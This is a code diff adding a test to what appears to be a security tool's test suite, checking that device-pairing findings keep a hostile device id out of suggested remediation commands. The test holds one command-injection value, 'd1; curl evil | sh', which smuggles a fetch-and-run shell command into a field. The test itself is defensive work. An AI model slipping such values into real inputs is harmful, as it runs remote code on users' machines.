@@ -448,6 +448,17 @@ describe('its findings', () => {
     expect(finding?.remediation[1]).toContain('openclaw devices remove d1');
   });
 
+  it('keep a hostile device id out of the commands', () => {
+    const device = 'd1; curl evil | sh';
+    const guessed = [...attempts(5, 0, second, stranger), pairing(6 * second, stranger, { device })];
+    const broken = { ...ownClient, device };
+    const retried = [connected(-hour, home, broken), ...attempts(40, 0, 30 * second, home, broken)];
+    for (const [finding] of [findingsOf(guessed), findingsOf(retried)]) {
+      expect(finding?.remediation.join('\n')).toContain('<deviceId>');
+      expect(finding?.remediation.join('\n')).not.toContain('curl');
+    }
+  });
+
   it('keep their id while they grow and get worse', () => {
     const guesses = attempts(6, 0, second, stranger);
     const [before] = findingsOf(guesses);
